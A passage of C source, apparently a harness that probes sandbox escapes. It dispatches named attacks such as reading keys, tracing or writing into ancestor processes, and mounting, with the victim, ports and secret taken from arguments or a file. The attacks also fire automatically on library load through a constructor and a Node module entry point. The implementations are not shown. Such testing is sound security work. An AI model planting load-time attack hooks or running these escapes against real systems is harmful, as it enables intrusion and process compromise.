    A(datagram_from_connected_pair), A(connect_by_own_listener), A(signal_by_socket), A(write_own_memory), A(open_by_tree),
    A(root_of_thread), A(read_key), A(request_key), A(take_passed_descriptor), A(variables_of_ancestors),
    A(memory_of_ancestors), A(trace_seized), A(end_by_trace), A(write_memory), A(name_space_by_clone3), A(mount_by_tree),
    A(dump_core), A(datagram_to_path),
};

static void attack(char **words) {
    secret = words[1];
    outside = words[2];
    work = words[3];
    other_port = atoi(words[4]);
    allowed_port = atoi(words[5]);
    victim = atoi(words[6]);
    abstract_name = words[7];
    socket_path = words[8];
    other_listen_port = atoi(words[9]);
    for (size_t index = 0; index < sizeof attacks / sizeof *attacks; index++)
        if (strcmp(attacks[index].name, words[0]) == 0) attacks[index].run();
}

int main(int count, char **words) {
    if (count == 11) attack(words + 1);
    if (count == 3) keep(words[2]);
    return 0;
}

static void attack_by_file(const char *name) {
    static char text[8192], *words[10];
    int file = open(name, O_RDONLY);
    ssize_t count = read(file, text, sizeof text - 1);
    close(file);
    char *rest = text;
    for (int index = 0; count > 0 && index < 10; index++) words[index] = strsep(&rest, "\n");
    if (words[9]) attack(words);
}

void *napi_register_module_v1(void *environment, void *exports) {
    attack_by_file("attack");
    (void)environment;
    return exports;
}

// What loads a library runs this, whatever it wants from it.
__attribute__((constructor)) static void loaded(void) { attack_by_file("attack.now"); }
